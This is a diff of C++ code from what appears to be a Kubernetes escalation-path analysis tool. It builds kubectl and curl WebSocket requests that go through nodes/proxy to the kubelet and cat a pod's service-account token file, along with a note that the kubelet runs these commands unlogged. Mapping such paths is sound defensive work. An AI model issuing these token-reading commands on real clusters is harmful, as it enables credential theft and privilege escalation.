@@ -1,4 +1,5 @@
 #include "graph/base/shell_quote.h"
+#include "graph/escalation/requests/enter_pods.h"
 #include "graph/escalation/requests/text.h"
 #include "graph/escalation/techniques/all.h"
 
@@ -28,19 +29,19 @@ void edges(const Evaluation& at) {
   }
 }
 
-constexpr std::string_view kToken = "/var/run/secrets/kubernetes.io/serviceaccount/token";
-
-std::string by_post(const StepView& view, const std::string& node, const std::string& place) {
-  const auto path = fmt::format("/api/v1/nodes/{}/proxy/run/{}?cmd=cat%20{}", node, place, kToken);
+std::string by_post(const StepView& view, const std::string& node, const std::string& place,
+                    const std::string& file) {
+  const auto path = fmt::format("/api/v1/nodes/{}/proxy/run/{}?cmd=cat%20{}", node, place, file);
   return requests::keep_token(
       view, fmt::format("{} create --raw {} -f /dev/null", view.kubectl, shell_quote(path)));
 }
 
 // kubectl has no raw WebSocket; its proxy adds the credentials to that of curl.
-std::string by_websocket(const StepView& view, const std::string& node, const std::string& place) {
+std::string by_websocket(const StepView& view, const std::string& node, const std::string& place,
+                         const std::string& file) {
   const auto url = fmt::format(
       "http://127.0.0.1:8001/api/v1/nodes/{}/proxy/exec/{}?command=cat&command={}&output=1", node,
-      place, kToken);
+      place, file);
   const auto curl = fmt::format(
       "curl -sN --http1.1 -H 'Connection: Upgrade' -H 'Upgrade: websocket' "
       "-H 'Sec-WebSocket-Version: 13' -H 'Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==' "
@@ -51,20 +52,16 @@ std::string by_websocket(const StepView& view, const std::string& node, const st
 }
 
 StepText text(const StepView& view) {
-  const auto account =
-      view.world.find_account(view.world.find_scope(view.account_ns), view.account);
   const auto* only = std::get_if<OnNode>(&view.edge.detail);
-  for (const auto& pod : view.world.pods()) {
-    if (pod.account != account || pod.node == kNone) continue;
-    const auto& node = view.world.nodes()[pod.node];
-    if (only != nullptr && only->node != pod.node) continue;
-    const auto place = fmt::format("{}/{}/CONTAINER", view.account_ns, pod.name);
-    return {requests::uses(view.edge, kGetNodeProxy) ? by_websocket(view, node, place)
-                                                     : by_post(view, node, place),
-            "nodes/proxy reaches the kubelet, which runs commands in every pod of the node without "
-            "asking or logging; `get` is enough when the request becomes a WebSocket"};
-  }
-  return {};
+  const auto token = requests::token_place(view, only != nullptr ? only->node : kNone);
+  if (token.pod == nullptr || token.pod->node == kNone) return {};
+  const auto& node = view.world.nodes()[token.pod->node];
+  const auto place =
+      fmt::format("{}/{}/CONTAINER", view.world.scope_name(token.pod->ns), token.pod->name);
+  return {requests::uses(view.edge, kGetNodeProxy) ? by_websocket(view, node, place, token.file)
+                                                   : by_post(view, node, place, token.file),
+          "nodes/proxy reaches the kubelet, which runs commands in every pod of the node without "
+          "asking or logging; `get` is enough when the request becomes a WebSocket"};
 }
 
 }  // namespace
